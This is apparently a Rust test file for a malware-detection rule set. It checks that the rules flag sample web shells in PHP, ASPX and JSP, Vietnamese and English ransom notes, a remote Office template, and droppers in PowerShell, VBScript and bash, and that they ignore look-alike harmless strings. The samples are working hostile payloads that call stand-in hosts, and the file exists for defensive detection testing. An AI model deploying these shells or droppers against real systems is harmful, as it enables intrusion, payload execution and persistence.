//! Rules of our own: each matches what it is for, and none of what is like it. The files are harmless: nothing in them runs, and what they
//! would call does not exist.

use ungcuu_detect::sweep::own;
use ungcuu_detect::sweep::yara::{About, Limits};

/// A rule and files on which it must match.
const CAUGHT: &[(&str, &[&str])] = &[
    (
        "web_shell_php",
        &[
            "<?php @eval($_POST['pass']); ?>",
            "GIF89a<?php system( $_GET[\"c\"] );",
            "<?php eval(base64_decode('aGFybWxlc3M='));",
            "<?php $_GET['f']($_POST['c']);",
            "<?= `$_REQUEST[0]` ?>",
            "<?php assert(stripslashes($_REQUEST['x']));",
        ],
    ),
    (
        "web_shell_aspx",
        &[
            "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>",
            "<%eval request(\"x\")%>",
            "<%@ Page Language=\"C#\" %><script runat=\"server\">void Run(){var p=new ProcessStartInfo(\"cmd.exe\",\"/c \"+Request.QueryString[\"c\"]);Process.Start(p);}</script>",
        ],
    ),
    (
        "web_shell_jsp",
        &[
            "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
            "<% String k=request.getHeader(\"x\"); Cipher c=Cipher.getInstance(\"AES\"); new U(l).super.defineClass(b,0,b.length); %>",
        ],
    ),
    (
        "ransom_note_vi",
        &[
            "CHÚ Ý! Toàn bộ tệp của bạn đã bị mã hóa. Muốn có khóa giải mã hãy liên hệ qua telegram trong 72 giờ.",
            "Du lieu cua ban da bi ma hoa. Gui 0.5 bitcoin. Sau 48 gio du lieu se mat.",
        ],
    ),
    (
        "ransom_note_en",
        &[
            "All your files have been encrypted!\nYou can buy the decryption key for Bitcoin. Do not rename files. You have 72 hours.",
            "<html>Your network and data were encrypted and stolen. Install Tor Browser, open abc.onion. Your personal ID: 0001</html>",
        ],
    ),
    (
        "office_remote_template",
        &[
            "<?xml version=\"1.0\"?><Relationships xmlns=\"r\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://example.invalid/a.dotm\" TargetMode=\"External\"/></Relationships>",
        ],
    ),
    (
        "script_powershell_hidden",
        &[
            "powershell.exe -nop -w hidden -ep bypass -c \"iex (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\"",
            "cmd /c powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        ],
    ),
    (
        "script_host_dropper",
        &[
            "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.open \"GET\", \"http://example.invalid/a\", False\nSet s = CreateObject(\"ADODB.Stream\"): s.SaveToFile f\nCreateObject(\"WScript.Shell\").Run f, 0",
        ],
    ),
    (
        "script_shell_miner_dropper",
        &[
            "#!/bin/bash\nunset HISTFILE\ncurl -fsSL http://example.invalid/x -o /tmp/x; chmod +x /tmp/x; /tmp/x &\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n",
        ],
    ),
];

/// Files like those, on which no rule may match.
const HARMLESS: &[&str] = &[
    "<?php echo htmlspecialchars($_GET['q']); system('uptime'); $x = base64_decode($row['data']);",
    "<?php $value = trim($_POST['name']); call_user_func($handler, $value);",
    "<%@ Page Language=\"C#\" %><% Response.Write(Server.HtmlEncode(Request.QueryString[\"q\"])); %>",
    "<%@ page %><% String q = request.getParameter(\"q\"); out.print(Encode.forHtml(q)); %>",
    "public class Run { void go() { Runtime.getRuntime().exec(\"ls\"); } }",
    "Bản tin an toàn thông tin: nhiều tệp của một đơn vị đã bị mã hóa. Hãy sao lưu dữ liệu thường xuyên.",
    "Ransomware is a threat. If your files are encrypted, call the response team; do not pay.",
    "<Relationships><Relationship Type=\"http://x/hyperlink\" Target=\"https://example.vn\" TargetMode=\"External\"/></Relationships>",
    "powershell -NoProfile -File backup.ps1",
    "Get-ChildItem | ForEach-Object { $_.Name }",
    "Set f = CreateObject(\"Scripting.FileSystemObject\")\nf.CopyFile a, b",
    "#!/bin/sh\nset -e\ncurl -fsSL https://example.vn/app.tar.gz -o /tmp/app.tar.gz\ntar xf /tmp/app.tar.gz\nchmod +x app\n",
];

fn found(bytes: &[u8]) -> Vec<String> {
    let rules = own::rules();
    assert_eq!(rules.refused(), []);
    let found = rules.searcher(Limits::default()).search(bytes, &About::default());
    found.hits.iter().map(|hit| rules.rule(hit.rule).name.clone()).collect()
}

#[test]
fn every_rule_matches_what_it_is_for() {
    for (rule, files) in CAUGHT {
        for file in *files {
            assert!(found(file.as_bytes()).contains(&(*rule).to_owned()), "{rule} does not match {file}");
        }
    }
    let wide: Vec<u8> =
        "Tệp và dữ liệu đã bị mã hóa, gửi bitcoin, hỏi telegram".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(found(&wide), ["ransom_note_vi"]);
    let mut document = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    document.extend_from_slice(b"\0\0_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0 Attribut\0 Sub Document_Open() \x03 CreateObject(\"WScript.Shell\") ");
    assert_eq!(found(&document), ["office_macro_dropper"]);
}

#[test]
fn no_rule_matches_what_is_harmless() {
    for file in HARMLESS {
        assert!(found(file.as_bytes()).is_empty(), "{:?} on {file}", found(file.as_bytes()));
    }
}

#[test]
fn every_rule_says_what_to_do_in_both_languages() {
    let rules = own::rules();
    let tested = |name: &str| CAUGHT.iter().any(|(rule, _)| *rule == name) || name == "office_macro_dropper";
    for rule in rules.all() {
        for name in ["id", "title", "description", "level", "response_vi", "response_en"] {
            assert!(rule.meta(name).is_some_and(|words| !words.is_empty()), "{}: {name}", rule.name);
        }
        assert!(tested(&rule.name), "{} has no file in the tests", rule.name);
    }
}
